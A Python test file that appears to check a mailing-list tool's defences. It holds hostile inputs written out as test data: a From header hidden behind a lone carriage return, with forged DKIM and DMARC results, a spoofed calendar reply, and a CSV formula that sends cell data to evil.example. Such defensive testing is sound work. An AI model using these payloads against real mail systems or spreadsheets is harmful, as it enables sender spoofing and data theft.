"""An attacker's review of trust (after #11 and #13): each attack through the real stack (Dovecot +
SMTP), each changing nothing and sending nothing but the confirmation or the coordinators' notice."""
from __future__ import annotations

import os

import dkim

from tests.store_bytes import occurrences_in_store, purge
from tests.test_trust_forgeries import ANNOUNCE, CONFIRM, forge, signed  # noqa: F401 - `signed` is a fixture

HIDDEN_FROM = b"X-Mailer: Outlook\rFrom: Amina Diallo <amina@example.org>\r\n"  # a lone CR, then a From


def _hidden_from_announce(net, from_line: bytes) -> bytes:
    """An [Announce] whose one From (read line by line, as every MTA and DKIM reads headers) is the
    attacker's, with a coordinator's From hidden behind a lone CR (which the email package takes for
    a line end)."""
    return (HIDDEN_FROM + from_line + b"To: " + net.list_address.encode() + b"\r\nSubject: " + ANNOUNCE[0].encode()
            + b"\r\nMessage-ID: <hidden-from@attacker.example>\r\nDate: Mon, 4 Jan 2027 09:00:00 +0000\r\n\r\n"
            + ANNOUNCE[1].replace("\n", "\r\n").encode())


def test_a_from_hidden_behind_a_lone_cr_is_not_verified_by_the_attackers_dmarc_pass(network):
    # the receiving MTA (the trusted one) reads the attacker's own From, and reports its pass
    raw = _hidden_from_announce(network, b"From: evil@attacker.example\r\n")
    stamp = (b"Authentication-Results: mx.test.example; dkim=pass header.d=attacker.example;"
             b" dmarc=pass header.from=attacker.example\r\n")
    forge(network, lambda: network.deliver(stamp + raw), allowed={"amina@example.org"}, expect=CONFIRM)


def test_a_from_hidden_behind_a_lone_cr_is_not_verified_by_a_pass_for_the_same_domain(network):
    # a shared provider: the attacker has an account at the coordinator's own domain, so the
    # receiving MTA rightly reports a DMARC pass for example.org, about the attacker's address
    raw = _hidden_from_announce(network, b"From: intern@example.org\r\n")
    stamp = (b"Authentication-Results: mx.test.example; dkim=pass header.d=example.org;"
             b" dmarc=pass header.from=example.org\r\n")
    forge(network, lambda: network.deliver(stamp + raw), allowed={"amina@example.org"}, expect=CONFIRM)


def test_a_from_hidden_behind_a_lone_cr_is_not_verified_by_the_attackers_dkim_signature(signed):
    raw = _hidden_from_announce(signed, b"From: evil@attacker.example\r\n")
    signature = dkim.sign(raw, b"sel", b"attacker.example", signed.keys["attacker.example"],
                          include_headers=[b"from", b"to", b"subject", b"date", b"message-id"])
    forge(signed, lambda: signed.deliver(signature + raw), allowed={"amina@example.org"}, expect=CONFIRM)


# --- a coordinator removed mid-flight: their steering tokens change nothing ---------------------

def _cli(net, *args) -> int:
    from convenor.cli import main
    return main(["--config", str(net.config), *args])


def test_a_coordinator_demoted_mid_vote_cannot_cancel_it_with_the_votes_confirmation(network):
    assert _cli(network, "members", "set", "jean@example.org", "--coordinator", "yes") == 0
    network.send("amina@example.org", "[Vote] Adopt the budget", "Closes: in 7 days\n\nThat the budget is adopted.\n")
    network.step()
    confirmation, = [m for m in network.new_messages() if "Vote opened" in m.subject]
    assert confirmation.to == "amina@example.org" and "CANCEL" in confirmation.text
    assert _cli(network, "members", "set", "amina@example.org", "--coordinator", "no") == 0   # typed by jean
    network.reply(confirmation, "CANCEL")
    network.step()
    out = network.new_messages()
    assert network.db.execute("SELECT state FROM votes").fetchone()[0] == "open"
    assert sorted(m.to for m in out) == ["amina@example.org", "jean@example.org"]
    assert "changed nothing" in network.only_message_to("amina@example.org", out).text
    to_jean = network.only_message_to("jean@example.org", out)   # in French, his language
    assert "ancienne coordination" in to_jean.subject and "n'en fait\r\nplus partie" in to_jean.text


def test_a_removed_coordinator_cannot_answer_a_stranger_from_the_list_address(network):
    assert _cli(network, "members", "set", "jean@example.org", "--coordinator", "yes") == 0
    network.send("Sam Stranger <sam@elsewhere.example>", "A question", "Where do you meet?")
    network.step()
    forward = network.only_message_to("amina@example.org", network.new_messages())
    assert _cli(network, "members", "remove", "amina@example.org") == 0
    network.reply(forward, "Come to 12 rue Example, back entrance, tonight.")
    network.step()
    out = network.new_messages()
    assert [m.to for m in out] == ["jean@example.org"], [(m.to, m.subject) for m in out]
    assert "ancienne coordination" in out[0].subject and "rue Example" in out[0].text


# --- nothing kept longer than the retention settings say ------------------------------------------

RETAINED = "CANARY-7c1d-retention"


def test_after_the_purge_no_meeting_words_stay_in_the_store_files(maildir_network, monkeypatch):
    """The coordinator's description of a meeting and of a date poll, a calendar answer's note, a
    poll answer and a held message's words: all gone from the store files once the purge has run
    past the meetings (`purge --days 0`, a command typed)."""
    from tests import calendar_clients
    import icalendar
    net = maildir_network
    net.send("Amina Diallo <amina@example.org>", "[Meeting] Planning day",
             f"When: 2027-02-09 18:00\nWhere: 519 Church Street\nAudience: core\n\nWe will discuss {RETAINED} case.\n")
    net.send("Amina Diallo <amina@example.org>", "[Meeting] Training day",
             f"Candidates: 2027-02-10 18:00; 2027-02-11 18:00\nAudience: core\n\nAbout {RETAINED} too.\n")
    net.send("Amina Diallo <amina@example.org>", "[Announce] Held news", f"Audience: all\n\n{RETAINED} news.\n",
             authenticated=None)  # held until Amina confirms
    net.step()
    sent = net.new_messages()
    invitation = next(m for m in sent if m.to == "li@example.org" and "Planning day" in m.subject)
    poll = next(m for m in sent if m.to == "li@example.org" and "Training day" in m.subject)
    uid = str(icalendar.Calendar.from_ical(next(d for n, _, d in invitation.attachments if n == "invite.ics"))
              .walk("VEVENT")[0]["uid"])
    net.reply(invitation, "Agenda: the budget")   # (agenda items become the minutes: the record, kept)
    net.reply(poll, f"1 — {RETAINED} permitting")
    net.deliver(calendar_clients.google(
        name="Li Wei", address="li@example.org", to=net.list_address, uid=uid, partstat="TENTATIVE",
        title="Planning day", now=net.now, subject="Tentatively accepted: Planning day (li@example.org)",
        comment=f"Late because of {RETAINED}"), authenticated="pass")
    net.step()
    net.set_time(net.now.replace(month=3))   # the meetings are past, the held message expired
    net.step()
    net.step()
    assert occurrences_in_store(net, RETAINED) > 0
    purge(net, monkeypatch, 0)
    db = net.db
    found = {t: db.execute(f"SELECT count(*) FROM {t} WHERE CAST({c} AS TEXT) LIKE ?", [f"%{RETAINED}%"]).fetchone()[0]
             for t, c in (("meetings", "description"), ("outbox", "body_text"),
                          ("held", "raw"), ("inbound", "raw"))}
    assert not any(found.values()), found
    net.close()
    assert occurrences_in_store(net, RETAINED) == 0


# --- a calendar answer is attendance only from the member, or with the invitation's UID -------------

def test_a_stranger_naming_a_member_as_attendee_without_the_invitations_uid_records_nothing(network):
    from tests import calendar_clients
    from tests.test_meetings_calendar_answers import TITLE, announce, attendance
    announce(network)
    forged = calendar_clients.apple(name="Li Wei", address="li@example.org", to=network.list_address,
                                    uid="DROPPED", partstat="DECLINED", title=TITLE, now=network.now,
                                    subject=f"Declined: {TITLE}")
    forged = forged.replace(b"UID:DROPPED\r\n", b"").replace(b"From: Li Wei <li@example.org>",
                                                            b"From: Li Wei <evil@attacker.example>")
    assert b"UID:" not in forged
    network.deliver(forged, authenticated="pass")   # the attacker's own domain passes
    network.step()
    out = network.new_messages()
    assert attendance(network) == {}
    assert network.messages_to("li@example.org", out) == []
    assert network.db.execute("SELECT handler FROM inbound ORDER BY id DESC LIMIT 1").fetchone()[0] == "stranger"


# --- files: the owner's alone, whatever the umask ----------------------------------------------------

def _mode(path) -> int:
    import stat
    return stat.S_IMODE(os.stat(path).st_mode)


def test_the_decisions_export_is_the_owners_alone_and_runs_no_formula(mail_stack, tmp_path):
    import csv
    from convenor.cli import main as cli_main
    from tests.fixtures_convenor import Network
    from tests.test_record_decisions import MEMBERS, vote_and_close
    net = Network(tmp_path, stack=mail_stack, members=MEMBERS)
    old_umask = os.umask(0o022)
    try:
        vote_and_close(net, '[Vote] =HYPERLINK("https://evil.example/?"&A1,"Adopt")',
                       "Closes: in 5 days\n\n+That the network adopts the brochure.\n",
                       {"jean@example.org": "Oui", "li@example.org": "Yes"})
        net.close()
        target = tmp_path / "decisions.csv"
        assert cli_main(["--config", str(net.config), "decisions", "export", "--to", str(target)]) == 0
        assert _mode(target) == 0o600
        with open(target, encoding="utf-8") as f:
            row, = list(csv.DictReader(f))
        assert row["title"].startswith("'=HYPERLINK") and row["motion"].startswith("'+That")
    finally:
        os.umask(old_umask)
        net.close()


def test_a_new_store_folder_and_a_new_settings_folder_are_the_owners_alone(tmp_path):
    from convenor.cli import main as cli_main
    from tests.fixtures_convenor import Network
    old_umask = os.umask(0o022)
    try:
        assert cli_main(["init", str(tmp_path / "setup")]) == 0
        net = Network(tmp_path, extra_settings="")
        settings_text = net.config.read_text().replace('path = "convenor.db"', 'path = "private/store/convenor.db"')
        net.config.write_text(settings_text)
        assert cli_main(["--config", str(net.config), "members", "list"]) == 0
    finally:
        os.umask(old_umask)
    assert _mode(tmp_path / "setup") == 0o700
    assert _mode(tmp_path / "setup" / "members.csv") == 0o600 and _mode(tmp_path / "setup" / "convenor.toml") == 0o600
    assert _mode(tmp_path / "private") == 0o700 and _mode(tmp_path / "private" / "store") == 0o700


# --- no word a sender wrote in any log: automatic replies' headers ---------------------------------

def test_an_automatic_replys_own_header_words_reach_no_log(network, caplog):
    import logging
    caplog.set_level(logging.DEBUG)
    canary = "zqautoCANARY"
    network.send("Li Wei <li@example.org>", "Re: hello", "I am away.", headers={"Auto-Submitted": f"{canary} words"})
    network.send("Li Wei <li@example.org>", "Re: hello", "I am away.", headers={f"X-Auto-{canary}": "yes"})
    network.send("Li Wei <li@example.org>", "Re: hello", "I am away.", headers={f"X-{canary}-Autoreply": "on"})
    network.step()
    handled = network.db.execute("SELECT handler FROM inbound").fetchall()
    assert [h for (h,) in handled] == ["machine"] * 3     # each read as automatic, and ignored
    logs = "\n".join(r.getMessage() for r in caplog.records if r.name.startswith("convenor"))
    assert "automatic reply" in logs and canary.lower() not in logs.lower()


def test_what_deliver_prints_for_a_message_set_aside_names_no_word_of_it(maildir_network, capsys, monkeypatch):
    """`convenor deliver` (the MTA's command; its output reaches the MTA's log) for a message that
    makes a handler fail with an error quoting what it read: the kind and place of the error only."""
    import io
    import sys
    from convenor.cli import main as cli_main
    from tests.mailstack import as_bytes
    from workflows.membership import commands
    from workflows.routing import table
    canary = "zqdeliverCANARY"

    def broken(ctx, mail, *args, **kwargs):
        raise ValueError(f"could not read {mail.subject!r}")
    for name, value in vars(table).items():
        if value is commands.help_command:
            monkeypatch.setattr(table, name, broken)
    monkeypatch.setitem(table.COMMANDS, "HELP", broken)
    net = maildir_network
    net.close()
    message = net.compose("jean@example.org", f"HELP {canary}", "HELP")
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(as_bytes(message))))
    assert cli_main(["--config", str(net.config), "deliver"]) == 0
    out = capsys.readouterr()
    assert out.out.startswith("quarantined: ValueError") and canary.lower() not in (out.out + out.err).lower()
    assert net.db.execute("SELECT state FROM inbound").fetchone()[0] == "quarantined"
    monkeypatch.undo()
    net.step()
    notice = net.only_message_to("amina@example.org", net.new_messages())   # the coordinators have it, words and all
    assert canary in notice.text and "ValueError: could not read" in notice.text


def test_after_the_purge_no_word_of_a_message_set_aside_stays_in_the_store(maildir_network, monkeypatch):
    """A forged message (dmarc=fail) and one that made a handler fail with an error quoting it are
    set aside: the coordinators got each with the original; the store's own copy (the raw message,
    the error's text) is blanked by the purge once the days have passed, like every body."""
    from workflows.routing import table
    net = maildir_network
    net.send("Amina Diallo <amina@example.org>", "[Announce] News", f"Audience: all\n\n{RETAINED} forged.\n",
             authenticated="fail")

    def broken(ctx, mail, *args, **kwargs):
        raise ValueError(f"could not read {mail.subject!r}")
    monkeypatch.setitem(table.COMMANDS, "HELP", broken)
    net.send("jean@example.org", f"HELP {RETAINED}", "HELP")
    net.step()
    monkeypatch.undo()
    assert [s for (s,) in net.db.execute("SELECT state FROM inbound")] == ["quarantined", "quarantined"]
    net.advance(days=2)
    net.step()
    assert occurrences_in_store(net, RETAINED) > 0
    purge(net, monkeypatch, 1)
    errors = [e for (e,) in net.db.execute("SELECT error FROM inbound ORDER BY id")]
    assert errors == ["Quarantine", "ValueError"]     # the kind of each stays, for the record
    net.close()
    assert occurrences_in_store(net, RETAINED) == 0


# --- a member removed mid-flight: their tokens no longer act ----------------------------------------

def test_a_member_removed_mid_vote_cannot_vote_with_their_ballot(network):
    network.send("amina@example.org", "[Vote] Adopt the budget", "Closes: in 7 days\n\nThat the budget is adopted.\n")
    network.step()
    ballot = network.only_message_to("li@example.org", network.new_messages())
    assert _cli(network, "members", "remove", "li@example.org") == 0     # typed by a coordinator
    network.reply(ballot, "YES")
    network.reply(ballot, "Agenda: let me in")
    network.step()
    out = network.new_messages()
    assert network.db.execute("SELECT count(*) FROM vote_choices").fetchone()[0] == 0
    assert all("recorded" not in m.subject for m in out)
    assert {m.to for m in out} <= {"amina@example.org", "li@example.org"}
    assert any(m.to == "amina@example.org" for m in out)            # the coordinators have each
    assert {h for (h,) in network.db.execute("SELECT handler FROM inbound WHERE from_addr = 'li@example.org'")} \
        == {"stranger"}


def test_checking_a_dkim_signature_logs_no_word_of_the_message(signed, caplog):
    """With no trusted server Convenor verifies DKIM itself (dkimpy), which at DEBUG would log the
    signed headers and the whole body: nothing of the message may reach a log at any level."""
    import logging
    from tests.test_trust_forgeries import send_signed
    caplog.set_level(logging.DEBUG)
    canary = "zqdkimCANARY"
    send_signed(signed, "amina@example.org", f"[Announce] News {canary}", f"Audience: all\n\n{canary} body.\n",
                "example.org")
    signed.step()
    assert signed.db.execute("SELECT count(*) FROM announcements").fetchone()[0] == 1   # verified: it went out
    ours = [r for r in caplog.records if not r.name.startswith(("mail.log", "imapclient"))]  # not the test servers'
    said = "\n".join(r.getMessage() for r in ours)
    assert canary.lower() not in said.lower(), [r.name for r in ours if canary.lower() in r.getMessage().lower()]
